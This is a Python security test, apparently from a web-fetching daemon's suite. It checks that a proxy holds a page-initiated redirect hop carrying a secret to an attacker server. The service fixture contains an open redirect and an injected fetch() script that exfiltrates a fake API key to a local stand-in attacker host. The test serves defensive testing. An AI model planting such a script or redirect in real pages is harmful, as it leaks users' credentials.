"""Redirect hops headless Chromium follows itself, decided by the daemon's proxy before they are sent.

Playwright routes no redirect hop: before the proxy, a hop went out blind (it reached its target once) and the
page was refused only afterwards. Attack here: in a session that read a local service's secret, the agent opens a
page of that service (its origin is free for the page's own requests); the page's script fetches a path of its
own origin that redirects to the attacker, carrying the secret in the URL. The hop is a request of the page's
making to a host nobody vouched for: the proxy holds it (exit rule) and the attacker receives nothing.
``no-proxy`` (``use_proxy=False``, which the daemon never runs) mounts the same attack without the proxy and shows
the hop lands, so the test would fail without it.
"""

from __future__ import annotations

import json
from collections.abc import AsyncIterator
from pathlib import Path

import pytest
from aiohttp import web
from trawl.server.runner import RunningDaemon
from trawl.sources.file import FileSource
from trawl.sources.http import HttpSource
from trawl.sources.playwright import PlaywrightSource

from tests.integration.test_daemon_helpers import daemon_settings
from tests.security.test_exits import TOKEN, Server, fetch, page, serve
from tests.security.test_exits import attacker as attacker  # the fixture
from tests.security.test_private_hosts import v1_fetch

FILLER = "The harbour office lists the ferry times to the outer islands for every day of the week."


@pytest.fixture
async def service(attacker: Server) -> AsyncIterator[Server]:
    """A local service: ``/notes`` shows a secret; ``/app`` is a page whose script fetches ``/go?to=...`` of its
    own origin, which redirects wherever it is told (an open redirect of the private origin)."""
    srv = Server("")
    port = attacker.url.rsplit(":", 1)[1]

    async def handle(request: web.Request) -> web.Response:
        srv.hits.append(str(request.rel_url))
        if request.path == "/go":
            raise web.HTTPFound(request.query["to"])
        if request.path == "/app":
            script = f"""<script>
              fetch('/go?to=' + encodeURIComponent('http://127.0.0.1:{port}/c?k={TOKEN[::-1]}'))
                .then(r => r.text(), () => 'failed').then(t => {{
                  document.querySelector('#out').textContent = {json.dumps(" ".join([FILLER] * 3))} + ' ' + t; }});
            </script>"""
            return web.Response(text=page("App", f"<p id=out></p>{script}"), content_type="text/html")
        return web.Response(text=page("Notes", f"<p>The payment API key is {TOKEN}; it stays in the team.</p>"),
                            content_type="text/html")

    runner, own = await serve("127.0.0.1", handle)
    srv.url = f"http://localhost:{own}"
    yield srv
    await runner.cleanup()


@pytest.mark.parametrize("proxied", [True, False], ids=["proxy", "no-proxy"])
async def test_a_pages_redirect_hop_to_the_attacker_is_held_before_it_is_sent(
    tmp_path: Path, chromium: str, service: Server, attacker: Server, proxied: bool
) -> None:
    settings = daemon_settings(tmp_path, allow_private_hosts=True, chromium_path=chromium, render_timeout_s=50.0,
                               render_empty_wait_s=40.0, request_timeout_s=90.0)
    sources = [FileSource(), HttpSource(settings), PlaywrightSource(settings, use_proxy=proxied)]
    async with RunningDaemon(settings, sources=sources, warm=False) as d:
        notes = await fetch(d, f"{service.url}/notes")
        assert notes["ok"] is True and TOKEN in str(notes["chunks"]), notes
        body = await v1_fetch(d, f"{service.url}/app", query="", source="playwright")
    assert any(h.startswith("/go?") for h in service.hits), service.hits  # the page's script asked for the hop
    if not proxied:  # before the proxy: the hop went out blind, the page was refused afterwards
        assert attacker.hits, (body, service.hits)
        return
    assert body["ok"] is False and body["error"]["code"] == "exit_held", body
    assert "trawl refused it before it was sent" in body["error"]["message"], body["error"]
    assert attacker.hits == [], f"the attacker received {attacker.hits}"
